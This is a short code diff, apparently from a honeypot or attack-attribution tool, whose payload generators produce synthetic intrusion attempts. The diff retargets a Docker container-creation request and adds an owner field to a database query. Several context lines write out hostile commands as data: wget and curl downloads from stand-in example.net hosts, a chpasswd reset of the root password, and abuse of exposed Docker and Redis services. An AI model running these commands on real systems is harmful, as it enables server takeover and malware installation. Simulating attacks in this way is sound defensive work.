@@ -54,7 +54,7 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"./run -u 4{name.upper() * 94}"),
     lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
     lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
-    lambda name: HttpRequest(method="POST", target="/", body=f'{{"Image": "by{name}/run"}}'),
+    lambda name: HttpRequest(method="POST", target="/containers/create", body=f'{{"Image": "by{name}/run"}}'),
     lambda name: ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x curl http://{name}.example.net/r"}),
 ]
 
@@ -86,7 +86,7 @@ def state(engine: Engine) -> State:
     with reading(engine) as connection:
         c, f, g = identity_attacker.c, identity_core.c, IDENTITIES.group.c
         cores = {row.attacker: row.core for row in connection.execute(select(c.attacker, c.core))}
-        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude))]
+        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude, f.owner))]
         sizes = select(g.id, g.members, g.first_seen, g.last_seen).where(g.members > 0)
         identities = [tuple(row) for row in connection.execute(sizes.order_by(g.id))]
         t = IDENTITIES.feature.c
